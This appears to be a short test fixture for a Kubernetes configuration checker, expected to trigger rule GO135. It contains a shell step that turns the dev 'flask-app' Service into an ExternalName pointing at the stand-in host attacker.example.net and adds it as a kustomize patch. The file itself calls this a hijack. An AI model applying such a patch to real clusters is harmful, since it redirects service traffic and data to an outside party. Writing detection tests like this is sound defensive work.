# expect: GO135
# ExternalName hijack: the app Service becomes a CNAME to an outside host (dev)
cat > clusters/dev/svc.yaml <<'Y'
apiVersion: v1
kind: Service
metadata:
  name: flask-app
spec:
  type: ExternalName
  externalName: attacker.example.net
  selector: null
  ports: null
Y
printf 'patches:\n  - path: svc.yaml\n' >> clusters/dev/kustomization.yaml
